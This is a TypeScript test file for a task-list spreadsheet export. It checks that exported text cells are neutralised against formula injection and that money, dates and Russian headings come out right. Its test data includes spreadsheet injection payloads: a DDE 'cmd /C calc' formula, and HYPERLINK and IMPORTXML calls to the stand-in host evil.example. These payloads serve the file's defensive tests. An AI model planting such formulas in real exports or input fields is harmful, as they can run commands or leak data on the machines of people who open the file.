import { shippedLists } from "@artel/shared/rules/lists/shipped-lists";
import { type SheetColumn, sheetOf } from "@artel/shared/sheets/sheet";
import { workbook } from "@artel/shared/sheets/workbook";
import { commonText } from "@artel/shared/text/common";
import { startText } from "@artel/shared/text/start";
import { statesText } from "@artel/shared/text/states";
import { tasksText } from "@artel/shared/text/tasks";
import { translate } from "@artel/shared/text/translate";
import { strFromU8, unzipSync } from "fflate";
import { readSheet } from "read-excel-file/universal";
import { expect, test, vi } from "vitest";
import { followZone } from "../../../ui/state/zone.ts";
import { registerTexts } from "../../../ui/words/texts.ts";
import { text as english, type Translate } from "../../../ui/words/use-text.ts";
import type { CompanyTask } from "../company-task.ts";
import { failedColumns, taskColumns } from "./export-lists.ts";
import { deadlineCell } from "./export-tasks.ts";

followZone(() => "Asia/Kathmandu");

// The texts ask the browser for its language as soon as they are loaded.
vi.hoisted(() => vi.stubGlobal("navigator", { language: "en" }));

const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\u0000=1+1",
  " =1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","click")',
  '=IMPORTXML("https://evil.example","//a")',
  "=WEBSERVICE(CONCATENATE(A1))",
  "＝1+1",
  "-2+3+cmd|' /C calc'!A0",
];

/** A task whose every text is the same. */
function taskOf(text: string): CompanyTask {
  return {
    id: 15,
    createdAt: "2026-11-20T09:00:00.000Z",
    paymentDate: null,
    status: 10,
    title: text,
    docTitle: text,
    description: text,
    categoryId: 1,
    currency: "USD",
    deadline: text,
    group: text,
    options: { companyCoverWithdraw: false },
    planPriceLabel: null,
    uiAmount: "100.00 USD",
    contractorId: 7,
    contractorEmail: text,
    contractorFullname: text,
    priceReward: "-100.50",
    priceTotal: "105.53",
    deprecatedTax: "5",
    priceFee: "5.03",
    priceCardFee: "0.00",
    contractorKyc: "accepted",
    createdById: 1,
    approval: null,
    proposal: null,
    rejectReason: text,
  };
}

const t: Translate = (key) => key;

function written<Row>(columns: readonly SheetColumn<Row>[], rows: readonly Row[]): Promise<Blob> {
  return workbook([sheetOf("Tasks", columns, rows)]);
}

/** The parts of the file that hold cells; a formula would be an element `f` in them. */
async function cellsXml(file: Blob): Promise<string> {
  const parts = unzipSync(new Uint8Array(await file.arrayBuffer()));
  return Object.entries(parts)
    .filter(([name]) => name.startsWith("xl/worksheets/"))
    .map(([, bytes]) => strFromU8(bytes))
    .join();
}

test("T-96, D-37: in the exported list no text is a formula, and money is a number, also below zero", async () => {
  const file = await written(taskColumns(t, { language: "en", lists: shippedLists }), formulas.map(taskOf));
  const [header, ...rows] = await readSheet(file);
  expect(header).toHaveLength(14);
  expect(rows).toHaveLength(formulas.length);
  for (const row of rows) {
    const texts = [row[2], row[3], row[4], row[5], row[7], row[13]];
    expect(texts.filter((text) => !String(text).startsWith("'"))).toEqual([]);
    expect([row[0], row[8], row[9]]).toEqual([15, -100.5, 105.53]);
  }
  expect(await cellsXml(file)).not.toMatch(/<f[ >]/);
});

test("D-37, HO-104, HO-131: an exported list has a row for each task that it is given, and each column holds what its task does", async () => {
  registerTexts(startText, commonText, tasksText, statesText);
  const first = {
    ...taskOf("x"),
    title: "Landing page",
    group: "Website",
    contractorFullname: "Anna Petrovic",
    contractorEmail: "anna@demo.example",
    categoryId: 105,
    deadline: "04/12/2026",
    status: 4,
    priceReward: "100.00",
    priceTotal: "105.00",
    createdAt: "2026-11-19T18:15:00.000Z",
    paymentDate: "2026-11-25T18:14:59.000Z",
    rejectReason: "",
  };
  const second = {
    ...first,
    id: 16,
    group: 0 as const,
    deadline: "May 2026",
    currency: "EUR" as const,
    status: 7,
    paymentDate: null,
    rejectReason: "Too late",
  };
  const day = (text: string) => new Date(`${text}T00:00:00.000Z`);
  expect(
    await readSheet(await written(taskColumns(english, { language: "en", lists: shippedLists }), [first, second])),
  ).toEqual([
    [
      ...["ID", "Created on (Asia/Kathmandu)", "Task", "Project", "Freelancer", "Email", "Service", "Deadline"],
      ...["Cost", "Total", "Currency", "Status", "Paid on (Asia/Kathmandu)", "Reason for refusal"],
    ],
    [
      ...[15, day("2026-11-20"), "Landing page", "Website", "Anna Petrovic", "anna@demo.example", "Interface design"],
      ...[day("2026-12-04"), 100, 105, "USD", "Paid", day("2026-11-25"), null],
    ],
    [
      ...[16, day("2026-11-20"), "Landing page", null, "Anna Petrovic", "anna@demo.example", "Interface design"],
      ...["May 2026", 100, 105, "EUR", "Rejected by company", null, "Too late"],
    ],
  ]);
});

test("D-37, HO-100: a deadline is exported as a real date, a service period as text", () => {
  expect(deadlineCell("04/12/2026")).toEqual({ kind: "date", day: "2026-12-04" });
  expect(deadlineCell("May 2026")).toEqual({ kind: "text", text: "May 2026" });
  expect(deadlineCell("31/02/2027")).toEqual({ kind: "text", text: "31/02/2027" });
});

test("T-96: in the file of failed tasks neither a title nor a reason is a formula", async () => {
  for (const text of formulas) {
    const failed = [{ taskId: 15, code: text, status: 10, title: text }];
    const file = await written(
      failedColumns((key) => (key === "tasks.id" ? key : text)),
      failed,
    );
    const [, row] = await readSheet(file);
    expect(row?.[0]).toBe(15);
    expect([row?.[1], row?.[2]].filter((cell) => !String(cell).startsWith("'"))).toEqual([]);
    expect(await cellsXml(file)).not.toMatch(/<f[ >]/);
  }
});

test("D-37: a Russian reader gets Russian heads, and services by their Russian names", async () => {
  const row = { ...taskOf("Лендинг"), categoryId: 1 };
  const [heads, cells] = await readSheet(
    await written(
      taskColumns((key) => translate("ru", key), { language: "ru", lists: shippedLists }),
      [row],
    ),
  );
  expect(heads).toEqual([
    ...["ID", "Дата создания (Asia/Kathmandu)", "Задача", "Проект", "Исполнитель", "E-mail", "Услуга", "Срок"],
    ...["Стоимость", "Итого", "Валюта", "Статус", "Дата оплаты (Asia/Kathmandu)", "Причина отказа"],
  ]);
  expect(cells?.[6]).toBe("Разработка программ");
});
